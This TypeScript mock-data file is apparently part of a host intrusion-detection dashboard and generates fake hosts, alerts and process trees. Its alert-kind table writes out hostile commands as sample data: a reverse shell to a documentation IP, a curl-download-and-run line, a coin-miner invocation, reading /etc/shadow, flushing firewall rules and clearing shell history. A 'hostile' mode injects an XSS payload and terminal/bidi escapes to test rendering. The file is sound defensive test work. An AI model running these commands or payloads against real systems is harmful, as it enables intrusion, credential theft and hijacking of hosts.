// Made-up data for developing without a server: what a small company's hosts
// would report, some of it hostile.
import type { components } from '../src/api/schema.ts';

type S = components['schemas'];

/** A generator of repeatable random numbers (mulberry32 would do as well). */
export function random(seed: number): () => number {
  let state = seed >>> 0 || 1;
  return () => {
    state ^= state << 13;
    state >>>= 0;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    return state / 2 ** 32;
  };
}

const hex = (next: () => number, digits: number) => Array.from({ length: digits }, () => Math.floor(next() * 16).toString(16)).join('');

export interface Kind {
  type: string;
  title: string;
  severity: 'informational' | 'low' | 'medium' | 'high';
  tactics: string[];
  techniques: string[];
  story: string;
  command: string;
  image: string;
  field: string;
  condition: string;
  weight: number;
}

export const kinds: Kind[] = [
  {
    type: 'VM_ReverseShell', title: 'Potential reverse shell detected', severity: 'medium', tactics: ['execution', 'command-and-control', 'exfiltration'],
    techniques: ['T1059.004', 'T1095'], story: 'USER started /usr/bin/bash with its input and output connected to 203.0.113.9:4444.',
    command: 'bash -i', image: '/usr/bin/bash', field: 'StandardInput', condition: 'is "socket"', weight: 2,
  },
  {
    type: 'VM_DownloadAndRunCombo', title: 'Suspicious Download Then Run Activity', severity: 'medium', tactics: ['execution', 'command-and-control'],
    techniques: ['T1059.004', 'T1105'], story: 'USER downloaded http://198.51.100.23/x.sh with curl and ran it with sh within 2 seconds.',
    command: 'curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x && sh /tmp/.x', image: '/usr/bin/curl', field: 'CommandLine', condition: 'contains "/tmp/."', weight: 4,
  },
  {
    type: 'VM_SshBruteForceFailed', title: 'Failed SSH brute force attack', severity: 'medium', tactics: ['credential-access', 'reconnaissance'],
    techniques: ['T1110.001'], story: '192.0.2.77 tried 214 passwords for root, admin and 11 other accounts; none was right.',
    command: 'sshd: unknown [priv]', image: '/usr/sbin/sshd', field: 'SourceIp', condition: 'count is greater than 20', weight: 14,
  },
  {
    type: 'VM_SshBruteForceSuccess', title: 'Successful SSH brute force attack', severity: 'high', tactics: ['credential-access', 'initial-access'],
    techniques: ['T1110.001', 'T1078'], story: '192.0.2.77 tried 61 passwords and then logged on as USER.',
    command: 'sshd: USER [priv]', image: '/usr/sbin/sshd', field: 'Status', condition: 'is "success"', weight: 1,
  },
  {
    type: 'VM_DigitalCurrencyMining', title: 'Digital currency mining related behavior detected', severity: 'high', tactics: ['execution', 'impact'],
    techniques: ['T1496'], story: 'USER started /var/tmp/.cache/kdevtmpfsi with options of a coin miner.',
    command: '/var/tmp/.cache/kdevtmpfsi -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ --donate-level 1', image: '/var/tmp/.cache/kdevtmpfsi',
    field: 'CommandLine', condition: 'contains "stratum+tcp://"', weight: 2,
  },
  {
    type: 'VM_SuspectExecutablePath', title: 'Executable found running from a suspicious location', severity: 'high', tactics: ['execution', 'defense-evasion'],
    techniques: ['T1036.005', 'T1059'], story: 'USER ran /dev/shm/kworker, a program outside the places where programs belong.',
    command: '/dev/shm/kworker --daemon', image: '/dev/shm/kworker', field: 'Image', condition: 'starts with "/dev/shm/"', weight: 2,
  },
  {
    type: 'VM_CronJobAccess', title: 'Manipulation of scheduled tasks detected', severity: 'informational', tactics: ['persistence', 'execution'],
    techniques: ['T1053.003'], story: 'USER changed /etc/cron.d/backup.', command: 'crontab -e', image: '/usr/bin/crontab', field: 'TargetFilename',
    condition: 'starts with "/etc/cron.d/"', weight: 18,
  },
  {
    type: 'VM_SuspectPasswordFileAccess', title: 'Suspicious password access', severity: 'informational', tactics: ['credential-access'],
    techniques: ['T1003.008'], story: 'USER read /etc/shadow with cat.', command: 'cat /etc/shadow', image: '/usr/bin/cat', field: 'CommandLine',
    condition: 'ends with "/etc/shadow"', weight: 10,
  },
  {
    type: 'VM_HistoryFileCleared', title: 'An history file has been cleared', severity: 'medium', tactics: ['defense-evasion'], techniques: ['T1070.003'],
    story: 'USER emptied /root/.bash_history.', command: 'truncate -s 0 /root/.bash_history', image: '/usr/bin/truncate', field: 'CommandLine',
    condition: 'ends with ".bash_history"', weight: 3,
  },
  {
    type: 'VM_SshKeyAddition', title: 'New SSH key added', severity: 'low', tactics: ['persistence'], techniques: ['T1098.004'],
    story: 'USER wrote to /home/deploy/.ssh/authorized_keys.', command: 'tee -a /home/deploy/.ssh/authorized_keys', image: '/usr/bin/tee',
    field: 'TargetFilename', condition: 'ends with "/.ssh/authorized_keys"', weight: 8,
  },
  {
    type: 'VM_NewSudoerAccount', title: 'A new user was added to the sudoers group', severity: 'low', tactics: ['privilege-escalation', 'persistence'],
    techniques: ['T1098.007'], story: 'USER added svc-build to the group sudo.', command: 'usermod -aG sudo svc-build', image: '/usr/sbin/usermod',
    field: 'TargetGroup', condition: 'is "sudo"', weight: 5,
  },
  {
    type: 'VM_LinuxReconnaissance', title: 'Local host reconnaissance detected', severity: 'medium', tactics: ['discovery'],
    techniques: ['T1082', 'T1083', 'T1087.001'], story: 'USER ran 9 commands that survey the host within 6 seconds.',
    command: "find / -perm -4000 -type f -exec ls -la {} \\;", image: '/usr/bin/find', field: 'CommandLine', condition: 'contains "-perm -4000"', weight: 6,
  },
  {
    type: 'HF_KernelModuleLoaded', title: 'A kernel module was loaded', severity: 'low', tactics: ['persistence', 'privilege-escalation'],
    techniques: ['T1547.006', 'T1014'], story: 'USER loaded the kernel module wireguard.', command: 'modprobe wireguard', image: '/usr/bin/kmod',
    field: 'ModuleName', condition: 'has any value', weight: 6,
  },
  {
    type: 'VM_FirewallDisabled', title: 'Manipulation of host firewall detected', severity: 'medium', tactics: ['defense-evasion', 'exfiltration'],
    techniques: ['T1562.004'], story: 'USER removed all firewall rules.', command: 'nft flush ruleset', image: '/usr/sbin/nft', field: 'CommandLine',
    condition: 'contains "flush ruleset"', weight: 3,
  },
  {
    type: 'VM_Webshell', title: 'Possible malicious web shell detected', severity: 'medium', tactics: ['persistence', 'initial-access'],
    techniques: ['T1505.003', 'T1190'], story: 'The web server php-fpm started /bin/sh as USER.', command: "sh -c 'id; uname -a; cat /etc/passwd'",
    image: '/usr/bin/dash', field: 'ParentImage', condition: 'contains "php-fpm"', weight: 2,
  },
];

const names = ['web-01', 'web-02', 'web-03', 'db-01', 'db-02', 'build-07', 'mail', 'vpn-gw', 'edge-fra-1', 'edge-fra-2', 'k8s-node-1', 'k8s-node-2', 'k8s-node-3', 'backup'];
const users = ['root', 'www-data', 'alice', 'deploy', 'postgres'];
const day = 24 * 3600_000;
const never = '0001-01-01T00:00:00Z';

/** A name that a host may give itself. */
const nasty = `srv\u202e\u200b<b>x</b>-${'long'.repeat(60)}`;

export function makeHosts(next: () => number, now: number, hostile: boolean): S['Host'][] {
  return names.map((name, i) => host(next, now, hostile && i % 4 === 1 ? nasty : name, i));
}

function host(next: () => number, now: number, name: string, i: number): S['Host'] {
  const produced = Math.floor(200_000 + next() * 9_000_000);
  const lost = i % 5 === 3 ? 1200 + Math.floor(next() * 400) : 0;
  const combined = Math.floor(produced * 0.03);
  const waiting = i === 8 ? 41_200 : Math.floor(next() * 60);
  const stored = produced - combined - lost - waiting;
  const silent = i === 8;
  const feature = (f: string, state = 'running', detail = ''): S['Feature'] => ({
    name: f, state, detail, since: new Date(now - 3 * day).toISOString(),
    ...(state === 'degraded' ? { warnings: [{ code: 'audit-shared', text: 'auditd keeps the audit socket; records come by its dispatcher, later than they could. Stop auditd to change that.' }], counters: [{ name: 'kernel_lost', value: lost, dropped: true }] } : {}),
  });
  return {
    uid: hex(next, 32), name, state: i === 13 ? 'revoked' : 'active', public_key: `U${hex(next, 40).toUpperCase()}`,
    labels: { group: name.split('-')[0] ?? name, env: i % 4 === 0 ? 'staging' : 'production' }, enrolled_time: new Date(now - (20 + i) * day).toISOString(),
    last_seen_time: new Date(now - (silent ? 47 * 60_000 : next() * 12_000)).toISOString(), version: 1,
    heartbeat: {
      time: new Date(now - 5000).toISOString(), hostname: name, os: i % 4 ? 'Debian GNU/Linux 12 (bookworm)' : 'Ubuntu 24.04.3 LTS', kernel: '6.12.41-amd64', arch: 'amd64',
      addresses: [`10.20.${i}.${10 + i}`], agent: 'v0.3.0', boot_uid: hex(next, 16), started_time: new Date(now - 3 * day).toISOString(), policy_version: 4 + i, bundles: { rules: hex(next, 64) },
      resident_bytes: 41_000_000 + i * 310_000, cpu_seconds: 1200 + i * 20,
      features: [
        feature('audit', i === 0 || i === 3 ? 'degraded' : 'running', i === 0 || i === 3 ? 'auditd keeps the audit socket; records come by its dispatcher' : ''),
        feature('perf'), feature('netsense'), feature('authlog', i === 11 ? 'failed' : 'running', i === 11 ? 'read /var/log/auth.log: permission denied' : ''), feature('procfs', 'off'), i === 3 ? refused(feature('transport', 'degraded')) : feature('transport'),
      ],
      ledger: {
        epoch: hex(next, 16), produced, combined, queued: waiting % 40, sequenced: produced - combined - lost, spooled: waiting, acknowledged: stored, dropped: lost ? { kernel_lost: lost } : {},
        spool_bytes: waiting * 130, spool_limit_bytes: 512 * 2 ** 20,
      },
    },
    intake: { epoch: hex(next, 16), sequence: Math.floor(produced / 300), events: stored, stored, dropped: {}, earlier: 0, repeated: 3 },
  };
}

/** refused is the connection of a host that could not use the server's rules. */
const refused = (f: S['Feature']): S['Feature'] => ({
  ...f, detail: 'connected',
  warnings: [{ code: 'bundle-refused', text: 'bundle rules is refused and the one before stays in force: rules/own/tmp-exec.yml: detection: the condition names "selektion", which is not there' }],
  counters: [{ name: 'bundles_refused', value: 1 }],
});

export function balance(h: S['Host']): S['Balance'] {
  const l = h.heartbeat?.ledger;
  return {
    host: h.uid, name: h.name, produced: l?.produced ?? 0, combined: l?.combined ?? 0, waiting: l?.spooled ?? 0, stored: h.intake.stored,
    dropped: l?.dropped ?? {}, unaccounted: 0, time: h.heartbeat?.time ?? h.enrolled_time,
  };
}

export function makeAlert(next: () => number, hosts: S['Host'][], time: number, hostile: boolean): S['Alert'] {
  let pick = next() * kinds.reduce((n, k) => n + k.weight, 0);
  const kind = kinds.find((k) => (pick -= k.weight) < 0) ?? (kinds[0] as Kind);
  const host = hosts[Math.floor(next() ** 1.7 * hosts.length)] as S['Host'];
  const user = users[Math.floor(next() * users.length)] as string;
  const age = Date.now() - time;
  const status = age < 2 * day || next() < 0.15 ? (next() < 0.85 ? 'open' : 'acknowledged') : next() < 0.7 ? 'resolved' : 'dismissed';
  const count = next() < 0.6 ? 1 : Math.ceil(next() * 240);
  let command = kind.command.replaceAll('USER', user);
  if (hostile) command = `sh -c "echo \u001b[31mroot\u001b[0m > /tmp/gpj\u202e.exe" # <img src=x onerror=alert(1)> \u200b\n${'A'.repeat(900)}`;
  const process = makeProcess(next, kind, command, user, time, host);
  const at = new Date(time).toISOString();
  const field = kind.field === 'CommandLine' || kind.field === 'Image' ? kind.field : 'CommandLine';
  const value = field === 'Image' ? kind.image : command;
  return {
    uid: hex(next, 32), alert_type: kind.type, title: kind.title, severity: kind.severity, host: host.uid, host_name: host.name,
    time: at, raised_time: new Date(time + 12).toISOString(), received_time: new Date(time + 140).toISOString(),
    last_time: new Date(Math.min(Date.now(), time + (count > 1 ? next() * 600_000 : 0))).toISOString(), count,
    description: hostile ? `${user} ran ${command}` : kind.story.replaceAll('USER', user), meaning: 'This behaviour is typical of attackers after they have found a way in. It can be wrong for an administrator who tests something or for a deployment tool that does the same.',
    remediation: [
      `Find out with the owner of ${host.name} whether ${user} was meant to do this.`,
      'If not, isolate the host and keep its memory and disks as they are.',
      `Look at what else ran in the session of ${user}, and change the credentials that were used there.`,
      'Remove what was left behind, and close the way in.',
    ],
    tactics: kind.tactics, techniques: kind.techniques,
    rule: { uid: `6427f723-2a27-41ce-914c-${kind.type.length.toString().padStart(12, '0')}`, title: kind.title, author: 'The Holdfast authors', path: `rules/linux/${kind.tactics[0]}/${kind.type.toLowerCase()}.yml` },
    matches: [
      { field, value, condition: kind.field === field ? kind.condition : `contains "${command.split(' ')[0]}"`, selection: 'selection', event: 0 },
      { field: 'User', value: user, condition: `is "${user}"`, selection: 'who', event: 0 },
    ],
    process,
    evidence: [
      { time: at, class_name: 'process_activity', class_uid: 1007, activity_name: 'launch', status: 'success', source: 'audit', host: host.uid, serial: 48123, process },
      {
        time: new Date(time + 40).toISOString(), class_name: 'network_activity', class_uid: 4001, activity_name: 'open', status: 'success', source: 'sockdiag', host: host.uid, process,
        network: { protocol: 'tcp', direction: 'outbound', src_endpoint: '10.20.3.13:50122', dst_endpoint: '203.0.113.9:4444' },
      },
    ],
    status, assignee: status === 'acknowledged' ? 'alice' : '', triage_time: at, triage_by: status === 'open' ? '' : 'alice', version: 1,
  };
}

function makeProcess(next: () => number, kind: Kind, command: string, user: string, time: number, host: S['Host']): S['Process'] {
  const uid = user === 'root' ? 0 : 1000 + users.indexOf(user);
  const boot = host.heartbeat?.boot_uid ?? '0000000000000000';
  const pid = 4000 + Math.floor(next() * 50_000);
  const entry: S['EntryPoint'] = { kind: 'ssh', address: '192.0.2.77', user };
  const make = (pid: number, path: string, cmd: string, who: number, name: string, ago: number, parent?: S['Process']): S['Process'] => ({
    uid: `${boot}-${pid}-${9345 + pid}0000000`, pid, ...(parent ? { parent, ppid: parent.pid } : {}), name: (path.split('/').pop() ?? '').slice(0, 15),
    file: { path, changed_time: never, sha256: hex(next, 64), owned: path.startsWith('/usr') ? 'yes' : 'no', ...(path.startsWith('/usr') ? { package: path.split('/').pop() ?? '' } : {}) },
    cmd_line: cmd, args: cmd.split(' '), working_directory: who ? `/home/${name}` : '/root', created_time: new Date(time - ago).toISOString(), executed_time: new Date(time - ago).toISOString(),
    user: { uid: who, name }, ...(parent ? { login_user: { uid, name: user }, session: 412, tty: 'pts1' } : {}), entry_point: parent ? entry : { kind: 'service', unit: 'ssh.service' },
  });
  const init = make(1, '/usr/lib/systemd/systemd', '/sbin/init', 0, 'root', 9 * day);
  init.entry_point = { kind: 'init' };
  const sshd = make(812, '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', 0, 'root', 9 * day, init);
  const session = make(pid - 40, '/usr/sbin/sshd', `sshd: ${user} [priv]`, 0, 'root', 300_000, sshd);
  const shell = make(pid - 12, '/usr/bin/bash', '-bash', uid, user, 299_000, session);
  const acting = make(pid, kind.image, command, uid, user, 0, shell);
  if (user === 'alice') {
    acting.effective_user = { uid: 0, name: 'root' };
  }
  acting.descriptors = [{ fd: 0, kind: 'socket', target: '203.0.113.9:4444' }, { fd: 1, kind: 'socket', target: '203.0.113.9:4444' }, { fd: 2, kind: 'tty', target: '/dev/pts/1' }];
  return acting;
}

/** around makes the events of a host about an alert. */
export function around(alert: S['Alert']): S['Event'][] {
  const next = random(alert.title.length + alert.count);
  const base = Date.parse(alert.time);
  const events: S['Event'][] = [];
  for (let i = -22; i < 20; i++) {
    const time = new Date(base + i * 9000 + next() * 4000).toISOString();
    const status: S['EventStatus'] = next() < 0.95 ? 'success' : 'failure';
    const common = { time, status, source: 'audit', host: alert.host ?? '', process: alert.process?.parent as S['Process'] };
    const which = Math.floor(next() * 5);
    if (which === 0) events.push({ ...common, class_name: 'file_activity', class_uid: 1001, activity_name: 'create', file: { changed_time: never, path: `/tmp/.${hex(next, 6)}` } });
    else if (which === 1) events.push({ ...common, class_name: 'network_activity', class_uid: 4001, activity_name: 'open', network: { protocol: 'tcp', direction: 'outbound', src_endpoint: '10.20.3.13:50122', dst_endpoint: '203.0.113.9:443' } });
    else if (which === 2) events.push({ ...common, class_name: 'authentication', class_uid: 3002, activity_name: 'logon', status: 'failure', user: { uid: 0, name: 'root' }, logon: { service: 'sshd', method: 'password', src_ip: '192.0.2.77', src_port: 40122 } });
    else events.push({ ...common, class_name: 'process_activity', class_uid: 1007, activity_name: which === 3 ? 'launch' : 'terminate', ...(which === 4 ? { exit: { code: 0 } } : {}) });
  }
  return [...events, ...alert.evidence].sort((a, b) => a.time.localeCompare(b.time));
}
